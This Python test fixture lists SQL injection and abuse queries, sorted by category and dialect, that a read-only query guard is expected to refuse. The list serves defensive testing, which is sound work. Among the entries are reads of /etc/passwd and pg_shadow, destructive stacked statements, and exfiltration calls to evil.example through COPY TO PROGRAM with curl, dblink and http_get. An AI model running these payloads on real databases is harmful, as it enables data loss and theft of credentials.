"""Queries the guard must refuse, by category and dialect.

The schema they run against: users, orders (allowed) and secrets (known, not allowed).
"{tmp}" stands for a scratch folder the test provides (ATTACH/VACUUM INTO targets).
Each entry: (category, dialect, sql).
"""

from __future__ import annotations

from typing import Literal

Dialect = Literal["sqlite", "postgres", "mysql"]

KNOWN_TABLES = ("users", "orders", "secrets")
ALLOWED_TABLES = ("users", "orders")

HOSTILE: list[tuple[str, Dialect, str]] = [
    # --- stacked statements
    ("stacked", "sqlite", "SELECT * FROM users; DROP TABLE users"),
    ("stacked", "sqlite", "SELECT * FROM users; DELETE FROM users;"),
    ("stacked", "sqlite", "SELECT 1;SELECT 2"),
    ("stacked", "postgres", "SELECT 1; UPDATE users SET name = 'x'"),
    ("stacked", "postgres", "SELECT * FROM users WHERE name = 'a'; COMMIT; DROP TABLE users"),
    ("stacked", "postgres", "SELECT * FROM users; ROLLBACK; BEGIN READ WRITE; DELETE FROM users"),
    ("stacked", "mysql", "SELECT * FROM users; DROP TABLE users"),
    ("stacked", "mysql", "SELECT `users`.* FROM `users`; DROP TABLE `users`"),
    # --- comments hiding a second statement
    ("comment", "sqlite", "SELECT * FROM users /* harmless */; DELETE FROM users"),
    ("comment", "sqlite", "SELECT * FROM users -- just a comment\n; DELETE FROM users"),
    ("comment", "sqlite", "SELECT * FROM users --\r\nDELETE FROM users"),
    ("comment", "postgres", "SELECT * FROM users /* nested /* comment */ still */; DROP TABLE users"),
    ("comment", "postgres", "SELECT 1 -- x\n; DELETE FROM users"),
    ("comment", "mysql", "SELECT * FROM users # comment\n; DELETE FROM users"),
    ("comment", "mysql", "SELECT * FROM users /*! ; DROP TABLE users */"),
    ("comment", "mysql", "SELECT /*!50000 SLEEP(10) */ 1"),
    ("comment", "mysql", "SELECT 1 /*M! ; DROP TABLE users */"),
    # --- writable CTEs and DML nested in a query
    ("writable-cte", "postgres", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d"),
    ("writable-cte", "postgres", "WITH u AS (UPDATE users SET name = 'x' RETURNING id) SELECT * FROM u"),
    ("writable-cte", "postgres", "WITH i AS (INSERT INTO users (name) VALUES ('x') RETURNING id) TABLE i"),
    ("writable-cte", "sqlite", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d"),
    ("writable-cte", "postgres", "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING 1) TABLE d) s"),
    # --- SELECT INTO (new tables, variables, files)
    ("select-into", "postgres", "SELECT * INTO stolen FROM users"),
    ("select-into", "postgres", "SELECT * INTO TEMPORARY t FROM users"),
    ("select-into", "mysql", "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'"),
    ("select-into", "mysql", "SELECT * FROM users INTO DUMPFILE '/tmp/x'"),
    ("select-into", "mysql", "SELECT name INTO @v FROM users"),
    ("select-into", "mysql", "SELECT * FROM users INTO OUTFILE '/tmp/u.csv' FIELDS TERMINATED BY ','"),
    # --- locking
    ("locking", "postgres", "SELECT * FROM users FOR UPDATE"),
    ("locking", "postgres", "SELECT * FROM users FOR SHARE NOWAIT"),
    ("locking", "postgres", "SELECT * FROM (SELECT * FROM users FOR UPDATE) s"),
    ("locking", "mysql", "SELECT * FROM users LOCK IN SHARE MODE"),
    ("locking", "mysql", "SELECT * FROM users FOR UPDATE SKIP LOCKED"),
    ("locking", "postgres", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
    # --- PRAGMA, ATTACH, DETACH, VACUUM
    ("pragma", "sqlite", "PRAGMA query_only = OFF"),
    ("pragma", "sqlite", "PRAGMA writable_schema = ON"),
    ("pragma", "sqlite", "PRAGMA journal_mode = DELETE"),
    ("pragma", "sqlite", "SELECT * FROM pragma_table_info('users')"),
    ("attach", "sqlite", "ATTACH DATABASE '{tmp}/evil.db' AS evil"),
    ("attach", "sqlite", "DETACH DATABASE main"),
    ("vacuum", "sqlite", "VACUUM"),
    ("vacuum", "sqlite", "VACUUM INTO '{tmp}/copy.db'"),
    # --- COPY, SET, LOAD
    ("copy", "postgres", "COPY users TO '/tmp/users.csv'"),
    ("copy", "postgres", "COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil.example'"),
    ("set", "postgres", "SET statement_timeout = 0"),
    ("set", "postgres", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
    ("set", "postgres", "SELECT set_config('statement_timeout', '0', false)"),
    ("set", "mysql", "SET GLOBAL max_execution_time = 0"),
    ("set", "mysql", "SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(10)"),  # MariaDB
    ("load", "mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE users"),
    ("load", "sqlite", "SELECT load_extension('{tmp}/evil.so')"),
    ("load", "postgres", "LOAD '/tmp/evil.so'"),
    # --- sleeping and busy loops
    ("sleep", "postgres", "SELECT pg_sleep(10)"),
    ("sleep", "postgres", "SELECT * FROM users WHERE pg_catalog.pg_sleep(10) IS NULL"),
    ("sleep", "postgres", "SELECT pg_sleep_for('10 seconds')"),
    ("sleep", "mysql", "SELECT SLEEP(10)"),
    ("sleep", "mysql", "SELECT BENCHMARK(100000000, MD5('x'))"),
    ("sleep", "mysql", "SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)"),
    ("sleep", "mysql", "DO SLEEP(5)"),
    # --- files, programs, other connections, SQL run from strings, settings
    ("files", "postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("files", "postgres", "SELECT * FROM pg_ls_dir('.')"),
    ("files", "postgres", "SELECT lo_import('/etc/passwd')"),
    ("files", "sqlite", "SELECT readfile('/etc/passwd')"),
    ("files", "sqlite", "SELECT writefile('{tmp}/x', 'data')"),
    ("files", "mysql", "SELECT LOAD_FILE('/etc/passwd')"),
    ("files", "mysql", "SELECT * FROM users WHERE name = LOAD_FILE(0x2f6574632f706173737764)"),
    ("network", "postgres", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)"),
    ("network", "postgres", "SELECT content FROM http_get('http://evil.example/?' || (SELECT 1))"),
    ("network", "postgres", "SELECT net.http_post('http://evil.example', '{}'::jsonb)"),
    ("sql-in-string", "postgres", "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')"),
    ("sql-in-string", "postgres", "SELECT ts_stat('SELECT body FROM secrets')"),
    ("admin", "postgres", "SELECT pg_terminate_backend(1)"),
    ("admin", "postgres", "SELECT current_setting('data_directory')"),
    ("admin", "postgres", "SELECT nextval('users_id_seq')"),
    ("admin", "postgres", "SELECT pg_advisory_lock(1)"),
    ("admin", "postgres", "SELECT pg_notify('channel', 'x')"),
    ("admin", "mysql", "SELECT GET_LOCK('x', 10)"),
    # --- system catalogs and other schemas
    ("catalog", "sqlite", "SELECT sql FROM sqlite_master"),
    ("catalog", "sqlite", "SELECT * FROM sqlite_schema"),
    ("catalog", "sqlite", "SELECT * FROM main.sqlite_master"),
    ("catalog", "sqlite", "SELECT * FROM sqlite_temp_master"),
    ("catalog", "postgres", "SELECT * FROM pg_catalog.pg_tables"),
    ("catalog", "postgres", "SELECT usename, passwd FROM pg_shadow"),
    ("catalog", "postgres", "SELECT * FROM information_schema.tables"),
    ("catalog", "postgres", "SELECT * FROM users JOIN pg_user ON true"),
    ("catalog", "postgres", "WITH a AS (SELECT * FROM pg_user), pg_user AS (SELECT 1) SELECT * FROM a"),
    ("catalog", "mysql", "SELECT * FROM mysql.user"),
    ("catalog", "mysql", "SELECT * FROM information_schema.tables"),
    ("catalog", "mysql", "SELECT * FROM performance_schema.threads"),
    # --- tables outside the allow-list, unknown tables, CTE shadowing tricks
    ("allow-list", "sqlite", "SELECT * FROM secrets"),
    ("allow-list", "sqlite", "SELECT * FROM users WHERE id IN (SELECT user_id FROM secrets)"),
    ("allow-list", "sqlite", "SELECT [body] FROM [secrets]"),
    ("allow-list", "postgres", "WITH s AS (SELECT * FROM secrets) SELECT * FROM s"),
    ("allow-list", "postgres", "WITH users AS (SELECT * FROM secrets) SELECT * FROM users"),
    ("allow-list", "postgres", "WITH x AS (SELECT * FROM secrets2), secrets2 AS (SELECT 1) SELECT * FROM x"),
    ("allow-list", "postgres", 'SELECT * FROM "SECRETS"'),
    ("allow-list", "mysql", "SELECT * FROM users UNION SELECT * FROM secrets"),
    ("unknown", "sqlite", "SELECT * FROM no_such_table"),
    ("unknown", "sqlite", "SELECT * FROM temp.users"),
    ("unknown", "postgres", "SELECT * FROM other_schema.users"),
    ("unknown", "mysql", "SELECT * FROM otherdb.users"),
    # --- DDL
    ("ddl", "sqlite", "CREATE TABLE x (a)"),
    ("ddl", "sqlite", "DROP TABLE users"),
    ("ddl", "sqlite", "CREATE VIEW v AS SELECT * FROM users"),
    ("ddl", "sqlite", "CREATE TRIGGER t AFTER INSERT ON users BEGIN DELETE FROM users; END"),
    ("ddl", "sqlite", "ALTER TABLE users RENAME TO old_users"),
    ("ddl", "postgres", "ALTER TABLE users ADD COLUMN x int"),
    ("ddl", "postgres", "TRUNCATE users"),
    ("ddl", "postgres", "GRANT ALL ON users TO public"),
    ("ddl", "postgres", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"),
    ("ddl", "mysql", "CREATE TEMPORARY TABLE t AS SELECT * FROM users"),
    # --- DML
    ("dml", "sqlite", "INSERT INTO users (name) VALUES ('x')"),
    ("dml", "sqlite", "UPDATE users SET name = 'x'"),
    ("dml", "sqlite", "DELETE FROM users"),
    ("dml", "sqlite", "REPLACE INTO users (id, name) VALUES (1, 'x')"),
    ("dml", "sqlite", "INSERT OR REPLACE INTO users (id, name) VALUES (1, 'x')"),
    ("dml", "sqlite", "INSERT INTO users (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = 2"),
    ("dml", "postgres", "MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE"),
    ("dml", "postgres", "DELETE FROM users USING orders WHERE users.id = orders.user_id"),
    ("dml", "mysql", "INSERT INTO users VALUES (1, 'x') ON DUPLICATE KEY UPDATE name = 'y'"),
    ("dml", "mysql", "REPLACE INTO users VALUES (1, 'x')"),
    # --- memory and CPU bombs
    ("dos", "sqlite", "SELECT randomblob(1000000000)"),
    ("dos", "sqlite", "SELECT hex(zeroblob(1000000000))"),
    ("dos", "sqlite", "SELECT * FROM generate_series(1, 100000000000)"),
    ("dos", "postgres", "SELECT count(*) FROM generate_series(1, 10000000000)"),
    ("dos", "postgres", "SELECT repeat('x', 1000000000)"),
    ("dos", "mysql", "SELECT REPEAT('x', 1000000000)"),
    ("dos", "mysql", "SELECT LPAD('x', 1000000000, 'y')"),
    ("dos", "mysql", "SELECT * FROM seq_1_to_100000000000"),  # MariaDB's sequence engine
    # --- other statements
    ("statement", "sqlite", "BEGIN IMMEDIATE"),
    ("statement", "postgres", "COMMIT"),
    ("statement", "postgres", "DO $$ BEGIN DELETE FROM users; END $$"),
    ("statement", "postgres", "CALL cleanup()"),
    ("statement", "postgres", "EXPLAIN ANALYZE DELETE FROM users"),
    ("statement", "postgres", "PREPARE p AS DELETE FROM users"),
    ("statement", "postgres", "LISTEN channel"),
    ("statement", "mysql", "HANDLER users OPEN"),
    ("statement", "mysql", "SHOW GRANTS"),
    ("statement", "mysql", "KILL 1"),
    ("statement", "mysql", "SHOW PROCESSLIST"),
    ("hint", "mysql", "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ * FROM users"),
    # --- unicode lookalikes and invisible characters
    ("unicode", "sqlite", "SELECT * FROM users\uff1bDELETE FROM users"),  # fullwidth semicolon
    ("unicode", "sqlite", "SELECT * FROM users\u037e DELETE FROM users"),  # Greek question mark
    ("unicode", "sqlite", "\uff24\uff25\uff2c\uff25\uff34\uff25 FROM users"),  # fullwidth DELETE
    ("unicode", "sqlite", "SELECT * FROM u\u0455ers"),  # Cyrillic s
    ("unicode", "sqlite", "SELECT * FROM users\u200b; DELETE FROM users"),  # zero-width space
    ("unicode", "postgres", "SELECT * FROM \uff53ecrets"),  # fullwidth s
    # --- dialect string tricks: a backslash does not escape a quote outside MySQL
    ("escape", "sqlite", "SELECT 'a\\'; DELETE FROM users; --'"),
    ("escape", "postgres", "SELECT 'a\\'; DELETE FROM users; --'"),
    ("escape", "postgres", "SELECT E'\\''; DELETE FROM users; --'"),
    ("escape", "postgres", "SELECT $$;$$; DELETE FROM users"),
]
